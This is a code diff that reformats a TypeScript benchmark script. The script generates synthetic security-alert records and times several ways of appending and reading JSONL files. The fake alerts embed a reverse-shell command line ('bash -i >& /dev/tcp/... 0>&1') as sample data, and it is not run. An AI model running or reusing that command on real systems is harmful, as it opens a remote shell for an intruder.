@@ -26,16 +26,33 @@ const write = !args.includes('--no-write');
 function envelope(i: number): Envelope {
   const cmdline = `bash -c bash -i >& /dev/tcp/10.0.${i % 250}.${i % 200}/4444 0>&1 # ${'x'.repeat(i % 120)}`;
   return {
-    node: 'node-1.example.internal', bootId: '4f2c1a9e-1111-4222-8333-944455556666', sequence: i + 1,
-    eventId: `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`, timeNs: 1_767_225_600_000_000_000n + BigInt(i) * 1_000_000n, kind: 'alert',
+    node: 'node-1.example.internal',
+    bootId: '4f2c1a9e-1111-4222-8333-944455556666',
+    sequence: i + 1,
+    eventId: `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`,
+    timeNs: 1_767_225_600_000_000_000n + BigInt(i) * 1_000_000n,
+    kind: 'alert',
     alert: {
-      time: '2026-01-01T00:00:00.123456789Z', rule: 'Reverse Shell', priority: 'Critical',
+      time: '2026-01-01T00:00:00.123456789Z',
+      rule: 'Reverse Shell',
+      priority: 'Critical',
       output: `00:00:00.123456789: Critical Reverse shell: bash output goes to 10.0.0.1:4444 (k8s.ns=shop k8s.pod=web-7d9f container=app cmdline=${cmdline})`,
       output_fields: {
-        'proc.name': 'bash', 'proc.pid': 4000 + i, 'proc.cmdline': cmdline, 'proc.pname': 'sh', 'fd.rip': '10.0.0.1', 'fd.rport': 4444,
-        'k8s.ns.name': 'shop', 'k8s.pod.name': 'web-7d9f', 'k8s.container.name': 'app', 'container.id': '0123456789ab', 'user.name': 'root',
+        'proc.name': 'bash',
+        'proc.pid': 4000 + i,
+        'proc.cmdline': cmdline,
+        'proc.pname': 'sh',
+        'fd.rip': '10.0.0.1',
+        'fd.rport': 4444,
+        'k8s.ns.name': 'shop',
+        'k8s.pod.name': 'web-7d9f',
+        'k8s.container.name': 'app',
+        'container.id': '0123456789ab',
+        'user.name': 'root',
       },
-      hostname: 'node-1.example.internal', source: 'syscall', tags: ['network', 'process', 'mitre_execution', 'T1059'],
+      hostname: 'node-1.example.internal',
+      source: 'syscall',
+      tags: ['network', 'process', 'mitre_execution', 'T1059'],
     },
   };
 }
@@ -74,12 +91,25 @@ async function round(dir: string): Promise<Record<string, number>> {
   // Baselines: the same JSON lines, serialised the same way, appended with appendFile (open+write+close a batch) and through one open handle.
   const plain = join(dir, 'plain.jsonl');
   out.appendFile = await timed(async () => {
-    for (let i = 0; i < records; i += batch) await appendFile(plain, envelopes.slice(i, i + batch).map((e) => `${envelopeJson(e)}\n`).join(''));
+    for (let i = 0; i < records; i += batch)
+      await appendFile(
+        plain,
+        envelopes
+          .slice(i, i + batch)
+          .map((e) => `${envelopeJson(e)}\n`)
+          .join(''),
+      );
   });
   const handlePath = join(dir, 'handle.jsonl');
   const h = await open(handlePath, 'a');
   out.handleWrite = await timed(async () => {
-    for (let i = 0; i < records; i += batch) await h.write(envelopes.slice(i, i + batch).map((e) => `${envelopeJson(e)}\n`).join(''));
+    for (let i = 0; i < records; i += batch)
+      await h.write(
+        envelopes
+          .slice(i, i + batch)
+          .map((e) => `${envelopeJson(e)}\n`)
+          .join(''),
+      );
   });
   await h.close();
 
@@ -103,7 +133,11 @@ async function round(dir: string): Promise<Record<string, number>> {
   out.readFile = await timed(async () => {
     const text = await readFile(plain, 'utf8');
     let n = 0;
-    for (const line of text.split('\n')) if (line) (parseEnvelopeJson(line), n++);
+    for (const line of text.split('\n')) {
+      if (!line) continue;
+      parseEnvelopeJson(line);
+      n++;
+    }
     if (n !== records) throw new Error(`read ${n} of ${records}`);
   });
   return out;
@@ -117,7 +151,11 @@ for (let r = 0; r < rounds + 1; r++) {
   try {
     const out = await round(dir);
     if (r === 0) continue; // warm-up
-    for (const [k, v] of Object.entries(out)) (results[k] ??= []).push(v);
+    for (const [k, v] of Object.entries(out)) {
+      const list = results[k] ?? [];
+      results[k] = list;
+      list.push(v);
+    }
   } finally {
     await rm(dir, { recursive: true, force: true });
   }
